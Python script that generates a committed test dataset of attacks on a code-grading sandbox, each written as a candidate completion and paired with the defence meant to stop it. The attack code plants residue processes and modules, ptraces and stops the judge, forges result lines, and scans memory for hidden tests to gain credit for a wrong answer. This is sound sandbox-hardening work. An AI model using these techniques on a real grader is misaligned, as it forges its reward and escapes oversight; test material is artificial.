"""Writes ``datasets/code/cross_sample.jsonl``: attacks on the NEXT sample of the same runner.

Run ``python tests/domains/code/gen_cross_sample.py`` after editing; the file is committed and
``test_code_cross_sample.py`` replays it. Each attack is scored on a runner, then (on that same
runner) a *probe* (honest code that adds 1 to its answer when it sees any residue an attack
leaves: a file, a process, an environment variable, a module, a signal handler, an IPC object,
a socket, a changed priority or limit) and a *victim* (a wrong answer that an attack tries to
get credit for: forged result lines, a planted module, a tampered judge). Every attack must
score 0 (status ``fail``), every probe 1, every victim 0.

An attack's own answer is wrong (``a - b``), so any credit it got would be forged; an attack
that brings its own ``add`` answers right only when it found what no candidate may see (the
``heap`` attack: the hidden test code in its own memory).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

OUT = Path(__file__).resolve().parents[3] / "datasets" / "code" / "cross_sample.jsonl"

TESTS = {
    "kind": "assert",
    "entry_point": "add",
    "code": "def check(candidate):\n    assert candidate(1, 2) == 3\n    assert candidate(20, 22) == 42\n",
}
SPEC = {"timeout_s": 4, "test_timeout_s": 3, "memory_mb": 256, "tests": TESTS}
WRONG = "\ndef add(a, b):\n    return a - b\n"
KEY = 0x58530001  # SysV IPC key the attacks use ("XS")

# Runs in a detached child so that it outlives the candidate (the sweep must end it).
DAEMON = r"""
import os, sys, time
def _daemon(body, seconds=20.0):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        os.execv(sys.executable, [sys.executable, "-c", body + "\n# xs-residue", str(seconds)])
    finally:
        os._exit(0)
"""


def _fd_spray(data: str, fds: int, setup: str = "") -> str:
    """Source that starts a daemon writing ``data`` (a Python bytes expression) into the first
    ``fds`` fds of every other process it can open in /proc, every 50 ms for 20 s."""
    return (
        '\n_daemon(r"""\nimport os, time\n' + setup + "end = time.time() + 20\n"
        "me = os.getpid()\n"
        "while time.time() < end:\n"
        '    for pid in os.listdir("/proc"):\n'
        "        if not pid.isdigit() or int(pid) == me:\n"
        "            continue\n"
        f"        for fd in range(0, {fds}):\n"
        "            try:\n"
        '                with open("/proc/%s/fd/%d" % (pid, fd), "wb", buffering=0) as fh:\n'
        f"                    fh.write({data})\n"
        "            except OSError:\n"
        "                pass\n"
        "    time.sleep(0.05)\n"
        '""")\n'
    )


ATTACKS: list[tuple[str, str, str, str]] = [
    (
        "files",
        "leave files for the next sample in every scratch place the job can write (/tmp, "
        "/var/tmp, /dev/shm, $HOME, the work dir and its .tmp, the work dir's parent, the next "
        "job dir's name)",
        "the runner's end removes the work dir and everything the job uid made in the shared "
        "scratch dirs; the next session gets a fresh work dir under a root-owned parent",
        r"""
import os
home = os.path.expanduser("~")
cwd = os.getcwd()
parent = os.path.dirname(cwd)
base = os.path.basename(cwd)
digits = "".join(c for c in base if c.isdigit())
targets = ["/tmp", "/var/tmp", "/dev/shm", home, cwd, os.path.join(cwd, ".tmp"), parent]
if digits:
    targets.append(os.path.join(parent, base.rstrip("0123456789") + str(int(digits) + 1)))
for folder in targets:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "xs-residue"), "w") as fh:
            fh.write("left by an earlier sample")
        os.chmod(os.path.join(folder, "xs-residue"), 0o444)
    except OSError:
        pass
""",
    ),
    (
        "modules",
        "plant modules the next judge or candidate might import (sitecustomize, usercustomize, "
        "json, solution) in /tmp, $HOME, the work dir and .tmp",
        "the judge drops every writable sys.path entry and its own dir before importing "
        "anything lazily, and the scratch dirs are scrubbed between sessions",
        r"""
import os
plant = "import builtins\nbuiltins.XS_RESIDUE = True\n"
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(),
               os.path.join(os.getcwd(), ".tmp")):
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "xs_residue.py"):
        try:
            with open(os.path.join(folder, name), "w") as fh:
                fh.write(plant)
        except OSError:
            pass
""",
    ),
    (
        "process",
        "leave detached processes (double fork + setsid, SIGTERM/SIGHUP ignored, a re-exec'd "
        "interpreter) that live on into the next sample",
        "after each job the runner kills the job's group and then every process of the job uid "
        "it can see, and checks that none survived (else the runner is tainted and recycled)",
        DAEMON
        + r"""
_daemon("import signal, time\nfor s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n    signal.signal(s, signal.SIG_IGN)\ntime.sleep(60)")
if os.fork() == 0:
    os.setsid()
    import signal
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.execv("/bin/sleep", ["/bin/sleep", "60", "xs-residue"])
    finally:
        os._exit(0)
time.sleep(0.2)
""",
    ),
    (
        "signals",
        "install handlers and block signals in the candidate, then signal the judge "
        "(SIGUSR1, SIGPIPE, SIGCHLD, SIGWINCH, SIGURG)",
        "signal dispositions are per process: the candidate's are its own and die with it; a "
        "judge killed by a signal writes no done line (0) and is never reused",
        r"""
import os, signal
for s in (signal.SIGUSR1, signal.SIGUSR2, signal.SIGTERM, signal.SIGALRM):
    signal.signal(s, lambda *a: None)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR2})
judge = os.getppid()
for s in (signal.SIGCHLD, signal.SIGWINCH, signal.SIGURG, signal.SIGPIPE, signal.SIGUSR1):
    try:
        os.kill(judge, s)
    except OSError:
        pass
""",
    ),
    (
        "stop-judge",
        "stop the judge with SIGSTOP and have a detached process continue it later, so the "
        "judge resumes after a gap with the candidate's timing in control",
        "a stopped judge misses its deadline (0); the resumer is swept with the job; nothing a "
        "stopped-and-continued judge reported is trusted without its done line",
        DAEMON
        + r"""
judge = os.getppid()
_daemon("import os, signal, sys, time\ntime.sleep(0.5)\nos.kill(%d, signal.SIGCONT)\ntime.sleep(30)" % judge)
os.kill(judge, __import__("signal").SIGSTOP)
""",
    ),
    (
        "environment",
        "change the environment, umask, cwd and resource limits the candidate was given "
        "(os.environ, putenv, umask 0, chdir /tmp) hoping the next sample inherits them",
        "every candidate is a new process forked from a judge that never ran candidate code; "
        "its environment, umask and cwd are its own",
        r"""
import os, resource
os.environ["XS_RESIDUE"] = "1"
os.putenv("XS_RESIDUE", "1")
os.umask(0)
os.chdir("/tmp")
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (77, 77))
except (ValueError, OSError):
    pass
""",
    ),
    (
        "judge-limits",
        "lower the judge's limits and priority from the candidate (prlimit RLIMIT_NOFILE / "
        "RLIMIT_CPU / RLIMIT_AS on the parent, setpriority 17, sched_setaffinity to one CPU), so "
        "a reused judge would fail or starve the next honest sample",
        "a judge lives for one sample only (a reused one would have to check its own limits, "
        "priority and affinity after each sample and refuse service on any change)",
        r"""
import os, resource
judge = os.getppid()
for res, value in ((resource.RLIMIT_NOFILE, (77, 77)), (resource.RLIMIT_CPU, (97, 97))):
    try:
        resource.prlimit(judge, res, value)
    except (ValueError, OSError):
        pass
try:
    os.setpriority(os.PRIO_PROCESS, judge, 17)
except OSError:
    pass
try:
    os.sched_setaffinity(judge, {sorted(os.sched_getaffinity(0))[0]})
except OSError:
    pass
""",
    ),
    (
        "python-state",
        "modify interpreter state: sys.modules entries, json.dumps, builtins, the import "
        "system's path hooks and meta path, sys.path, gc and the recursion limit",
        "the candidate's interpreter is its own copy (a fork); the judge forks every candidate "
        "before any candidate code ran and never imports from the candidate",
        r"""
import builtins, gc, json, sys, types
sys.modules["xs_residue"] = types.ModuleType("xs_residue")
json.dumps = lambda *a, **k: "xs-residue"
builtins.XS_RESIDUE = True
sys.path.insert(0, "/tmp")
sys.meta_path.insert(0, type("XsFinder", (), {"find_spec": staticmethod(lambda *a: None)}))
sys.setrecursionlimit(60)
gc.disable()
""",
    ),
    (
        "ipc",
        "leave SysV shared memory, a semaphore set and a message queue (key 0x58530001), a "
        "POSIX shared memory file, and a listening abstract unix socket for the next sample",
        "the runner removes the job uid's IPC objects (or the job has a private IPC namespace) "
        "and kills the listener; abstract sockets die with their process",
        DAEMON
        + r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
KEY = @KEY@
libc.shmget(KEY, 4096, 0o1666)
libc.semget(KEY, 1, 0o1666)
libc.msgget(KEY, 0o1666)
try:
    with open("/dev/shm/xs-residue-shm", "wb") as fh:
        fh.write(b"x" * 4096)
except OSError:
    pass
_daemon("import socket, time\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0xs-residue')\ns.listen(1)\ntime.sleep(60)")
time.sleep(0.3)
""".replace("@KEY@", str(KEY)),
    ),
    (
        "forge-next",
        "leave a process that scans /proc for the next judge and writes forged nonce-style "
        "result lines into every fd it can open there (stdout, pipes), and into its own "
        "inherited fds",
        "the judge is non-dumpable (its /proc fd, mem and environ are closed to the job uid), "
        "the nonce is fresh per sample and never in argv or a file, and the process is swept "
        "before the next session",
        DAEMON
        + _fd_spray(
            "line + done",
            12,
            setup=r"""line = b"00000000000000000000000000000000 T {\"name\": \"check(add)\", \"status\": \"passed\"}\n"
done = b"00000000000000000000000000000000 D {}\n"
""",
        )
        + "time.sleep(0.2)\n",
    ),
    (
        "ptrace",
        "attach to the judge with ptrace (ATTACH, SEIZE), open its /proc/<pid>/mem, environ and "
        "fds, and process_vm_readv its memory, to read the nonce or rewrite its code",
        "the judge is non-dumpable (PR_SET_DUMPABLE=0): ptrace and its /proc files are denied to "
        "the job uid",
        r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
judge = os.getppid()
got = []
for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
    if libc.ptrace(request, judge, 0, 0) == 0:
        got.append(request)
for name in ("mem", "environ", "fd/1", "maps"):
    try:
        with open("/proc/%d/%s" % (judge, name), "rb") as fh:
            got.append((name, len(fh.read(4096))))
    except OSError:
        pass
if got:
    print("xs ptrace got", got)
""",
    ),
    (
        "heap",
        "scan the candidate's own memory (every anonymous mapping, byte by byte) for a line of "
        "the hidden test code, which a candidate forked from a judge that had read a job (its "
        "own, or an earlier sample's in a judge kept warm) holds in its copy of the freed heap; "
        "answer right only when found",
        "every candidate is forked before its judge reads the job (a restarted one is a fresh "
        "interpreter) and every judge serves one sample: no candidate's memory ever held test "
        "code; with the judge changed to fork after reading its job this row scores 1",
        r"""
import ctypes

# The needle is built at run time, so this source never holds it in one piece; its own
# buffer and the scan buffer are skipped.
_NEEDLE = bytearray(b"candidate(20, ") + bytearray(b"22) == 42")
_BUF = bytearray((1 << 20) + len(_NEEDLE))


def _address(buf):
    return ctypes.addressof((ctypes.c_char * len(buf)).from_buffer(buf))


def _found():
    mine = [(_address(_NEEDLE), len(_NEEDLE)), (_address(_BUF), len(_BUF))]
    with open("/proc/self/maps") as fh:
        maps = fh.read().splitlines()
    for entry in maps:
        parts = entry.split()
        if not parts[1].startswith("r") or (len(parts) >= 6 and parts[5] != "[heap]"):
            continue  # anonymous and heap only: reading past a mapped file's end faults
        start, end = (int(x, 16) for x in parts[0].split("-"))
        for at in range(start, end, 1 << 20):
            n = min(len(_BUF), end - at)
            ctypes.memmove(_address(_BUF), at, n)
            hit = _BUF.find(_NEEDLE, 0, n)
            while hit >= 0:
                if not any(a <= at + hit < a + size for a, size in mine):
                    return True
                hit = _BUF.find(_NEEDLE, hit + 1, n)
    return False


FOUND = _found()


def add(a, b):
    return a + b if FOUND else a - b
""",
    ),
    (
        "kill-all",
        "kill every process of the uid (kill(-1, SIGKILL)) including the judge, after planting "
        "a file for the next sample",
        "a dead judge writes no done line: 0; the runner's sweep and scrub run as usual and the "
        "next session starts clean",
        r"""
import os, signal
try:
    with open("/tmp/xs-residue-kill", "w") as fh:
        fh.write("x")
except OSError:
    pass
os.kill(-1, signal.SIGKILL)
""",
    ),
    (
        "warm-signal",
        "walk up from the judge to the runner's warm zygote (every judge of the runner is forked "
        "from it), the zygote and the runner, and SIGSTOP, SIGUSR1, SIGTERM and SIGKILL each; "
        "lower their limits (prlimit RLIMIT_NPROC/NOFILE) and priority, ptrace them and read "
        "their /proc mem, so the next judge is never forked, or forked crippled",
        "the warm zygote runs as the runner's user (root in the container / user namespace), "
        "never the job uid: signals, ptrace and its /proc files are refused (EPERM), and the "
        "hands-off seccomp filter refuses prlimit/setpriority on other pids; were it gone, the "
        "runner falls back to the zygote (same judge, same verdict)",
        r"""
import ctypes, os, resource, signal
libc = ctypes.CDLL(None, use_errno=True)


def parent(pid):
    with open("/proc/%d/stat" % pid) as fh:
        return int(fh.read().rsplit(")", 1)[1].split()[1])


chain = []
pid = os.getppid()  # the judge
while pid > 1 and len(chain) < 8:
    chain.append(pid)
    try:
        pid = parent(pid)
    except (OSError, ValueError, IndexError):
        break
for target in chain[1:]:  # the warm zygote, the zygote, the runner, ...
    libc.ptrace(16, target, 0, 0)
    try:
        with open("/proc/%d/mem" % target, "rb") as fh:
            fh.read(1)
    except OSError:
        pass
    for res in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):
        try:
            resource.prlimit(target, res, (1, 1))
        except (ValueError, OSError):
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, target, 19)
    except OSError:
        pass
    for s in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, s)
        except OSError:
            pass
""",
    ),
    (
        "warm-preload",
        "tamper with what the warm zygote preloaded, as the candidate sees it in its own memory "
        "(the kept bundle's bytes and __main__ code, the judge modules' functions), and plant a "
        "forged .judge/harness.bin in every scratch place, hoping the next judge boots from it",
        "the candidate's memory is its own copy (two forks below the warm zygote, which no job "
        "can write to); each judge boots from the harness.bin the host wrote read-only into its "
        "own work dir, and uses the preloaded bundle only when it equals that file byte for byte",
        r"""
import os, sys
kept = sys.modules.get("__verifiers_judge_preload__")
if kept is not None:
    kept.blob = b"xs-residue"
    kept.main = compile("print('xs-residue')", "<xs>", "exec")
for name in list(sys.modules):
    if name.startswith("verifiers.domains.code."):
        module = sys.modules[name]
        for attr in ("line", "check", "parse", "decode"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *a, **k: None)
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()):
    try:
        os.makedirs(os.path.join(folder, ".judge"), exist_ok=True)
        with open(os.path.join(folder, ".judge", "harness.bin"), "wb") as fh:
            fh.write(b"xs-residue")
    except OSError:
        pass
""",
    ),
    (
        "warm-control",
        "forge the zygotes' control traffic: send a fork request ('F' with four fds) and a "
        "warm-zygote request ('P' with a pipe holding code) on every fd the candidate has, "
        "write those bytes into every fd of every process it can open in /proc, and leave a "
        "process that keeps trying while the next job is handed over",
        "the control sockets are socketpairs between the runner and its zygotes (no name, no "
        "path), closed in every job before any job code runs; a job's fds are its own pipes, "
        "and the zygotes' /proc fd folders are closed to the job uid; the process is swept "
        "before the next session",
        DAEMON
        + _fd_spray('b"P" + b"F" * 15', 16)
        + r"""import socket
r, w = os.pipe()
os.write(w, b"open('/tmp/xs-residue-warm', 'w').close()\n")
os.close(w)
for fd in range(0, 64):
    try:
        sock = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    try:
        socket.send_fds(sock, [b"P"], [r, r])
        socket.send_fds(sock, [b"F"], [0, 1, 2, r])
    except OSError:
        pass
    finally:
        sock.close()
time.sleep(0.2)
""",
    ),
]

PROBE = r"""
import os, signal, socket, sys

KEY = @KEY@


def _residue():
    found = []
    places = ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(),
              os.path.join(os.getcwd(), ".tmp"), os.path.dirname(os.getcwd())]
    for folder in places:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            if "xs-residue" in name or name in ("sitecustomize.py", "usercustomize.py",
                                                 "json.py", "xs_residue.py"):
                found.append(folder + "/" + name)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as fh:
                    if b"xs-residue" in fh.read():
                        found.append("process " + pid)
            except OSError:
                pass
    for table in ("shm", "sem", "msg"):
        try:
            with open("/proc/sysvipc/" + table) as fh:
                for row in fh.read().splitlines()[1:]:
                    if row.split() and int(row.split()[0]) == KEY:
                        found.append("sysv " + table)
        except (OSError, ValueError):
            pass
    probe = socket.socket(socket.AF_UNIX)
    try:
        probe.connect("\0xs-residue")
        found.append("abstract socket")
    except OSError:
        pass
    finally:
        probe.close()
    if "XS_RESIDUE" in os.environ:
        found.append("environment")
    import builtins, json
    if getattr(builtins, "XS_RESIDUE", False) or "xs_residue" in sys.modules:
        found.append("python state")
    if json.dumps([1]) != "[1]":
        found.append("json patched")
    if signal.getsignal(signal.SIGUSR1) is not signal.SIG_DFL:
        found.append("signal handler")
    import resource
    if resource.getrlimit(resource.RLIMIT_NOFILE)[0] == 77:
        found.append("nofile limit")
    if resource.getrlimit(resource.RLIMIT_CPU)[0] == 97:
        found.append("cpu limit")
    if os.getpriority(os.PRIO_PROCESS, 0) == 17:
        found.append("priority")
    if os.umask(0o22) == 0:
        found.append("umask")
    return found


RESIDUE = _residue()
if RESIDUE:
    print("residue of an earlier sample:", RESIDUE)


def add(a, b):
    return a + b + (1 if RESIDUE else 0)
""".replace("@KEY@", str(KEY))


def rows() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []

    def row(rid: str, code: str, role: str, expect: str, attack: str, defence: str) -> None:
        out.append(
            {
                "id": rid,
                "completion": f"```python\n{code.strip()}\n```\n",
                "task": {"verifier": "code.tests", "spec": SPEC},
                "metadata": {
                    "family": "cross-sample",
                    "role": role,
                    "expect": expect,
                    "attack": attack,
                    "defence": defence,
                },
            }
        )

    for name, attack, defence, code in ATTACKS:
        own = "\ndef add(" in code  # brings its own answer (see the module docstring)
        row(f"xs-{name}", code if own else code + WRONG, "attack", "fail", attack, defence)
    row(
        "xs-probe",
        PROBE,
        "probe",
        "pass",
        "(control) honest code that answers wrong when it sees any residue of an earlier sample",
        "runs after every attack on the same runner: a pass means nothing leaked",
    )
    row(
        "xs-victim",
        WRONG,
        "victim",
        "fail",
        "(control) a wrong answer run after every attack on the same runner",
        "scores 0 whatever an earlier sample left behind to forge its result",
    )
    return out


def main() -> None:
    OUT.write_text("".join(json.dumps(r) + "\n" for r in rows()))
    print(f"wrote {OUT} ({len(rows())} rows)")


if __name__ == "__main__":
    main()
